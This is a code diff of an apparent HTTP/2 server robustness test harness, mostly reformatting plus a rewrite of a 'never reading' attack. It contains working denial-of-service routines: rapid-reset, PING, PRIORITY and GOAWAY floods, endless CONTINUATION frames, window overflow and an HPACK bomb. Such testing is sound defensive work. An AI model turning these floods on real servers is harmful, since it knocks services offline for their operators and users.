@@ -4,8 +4,26 @@ from __future__ import annotations
 
 from lab.http2 import codes
 from lab.http2.codes import (
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_SIZE, GOAWAY, HEADERS, LARGEST_WINDOW, PADDED, PING, PRIORITY,
-    PRIORITY_UPDATE, PUSH_PROMISE, RST_STREAM, SETTINGS, WINDOW_UPDATE, Code, frame, number, setting,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    FRAME_SIZE,
+    GOAWAY,
+    HEADERS,
+    LARGEST_WINDOW,
+    PADDED,
+    PING,
+    PRIORITY,
+    PRIORITY_UPDATE,
+    PUSH_PROMISE,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    Code,
+    frame,
+    number,
+    setting,
 )  # fmt: skip
 from lab.http2.hostile.attack import ENOUGH, Attack, flood, in_pieces, indexed, new_entry
 from lab.http2.peer import Peer
@@ -27,7 +45,11 @@ def later(p: Peer, index: int) -> int:
 
 def rapid_reset(p: Peer, count: int) -> None:
     block = p.block(p.fields(path="/hostile/rapid-reset/again"))
-    flood(p, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block) + frame(RST_STREAM, 0, later(p, n), number(8)), count)
+    flood(
+        p,
+        lambda n: frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block) + frame(RST_STREAM, 0, later(p, n), number(8)),
+        count,
+    )
 
 
 def made_resets(p: Peer, count: int) -> None:
@@ -60,15 +82,11 @@ def zero_windows(p: Peer, count: int) -> None:
 
 
 def never_reading(p: Peer, count: int) -> None:
-    """Answers are asked for until nothing can be written any more, and not one of them is read."""
-    block = p.block(p.fields())
+    """As many answers as streams are allowed, and answers to PING until nothing can be written any more; not one is read."""
     p.update(LARGEST_WINDOW - codes.WINDOW)
-    flood(
-        p,
-        lambda n: frame(PING, 0, 0, bytes(8)) * 5 + frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block),
-        min(count, 5_000),
-        reads=False,
-    )
+    block = p.block(p.fields())
+    flood(p, lambda n: frame(HEADERS, END_HEADERS | END_STREAM, later(p, n), block), min(count, 90), reads=False)
+    flood(p, lambda _: frame(PING, 0, 0, bytes(8)), count, reads=False)
 
 
 def streams_at_once(p: Peer, count: int) -> None:
@@ -109,11 +127,13 @@ BOTH = [
     Attack("settings", settings),
     Attack("pings", lambda p, count: flood(p, lambda _: frame(PING, 0, 0, bytes(8)), count)),
     Attack("empty-data", empty_data),
-    Attack("priorities", lambda p, count: flood(p, lambda n: frame(PRIORITY, 0, 3 + 2 * (n % 100), number(0) + b"\x0f"), count), bearable=True),
+    Attack("priorities", lambda p, count: flood(p, lambda n: frame(PRIORITY, 0, 3 + 2 * (n % 100), number(0) + b"\x0f"),
+        count), bearable=True),
     Attack("window-updates", lambda p, count: flood(p, lambda _: frame(WINDOW_UPDATE, 0, 0, number(1)), count), bearable=True),
     Attack("unknown-frames", lambda p, count: flood(p, lambda _: frame(0x77, 0, 0, bytes(16)), count), bearable=True),
     Attack("goaways", lambda p, count: flood(p, lambda _: frame(GOAWAY, 0, 0, bytes(8)), count), bearable=True),
-    Attack("endless-continuation", lambda p, count: continuations(p, count // 10, b"\x00\x01a" + b"\x7f\xb1\x7e" + bytes(FRAME_SIZE - 6)), LISTS),
+    Attack("endless-continuation", lambda p, count: continuations(p, count // 10,
+        b"\x00\x01a" + b"\x7f\xb1\x7e" + bytes(FRAME_SIZE - 6)), LISTS),
     Attack("empty-continuations", lambda p, count: continuations(p, count, b""), LISTS),
     Attack("window-overflow", lambda p, _: (p.update(LARGEST_WINDOW), p.update(LARGEST_WINDOW)), FLOW),
     Attack("hpack-bomb", bomb, LISTS),
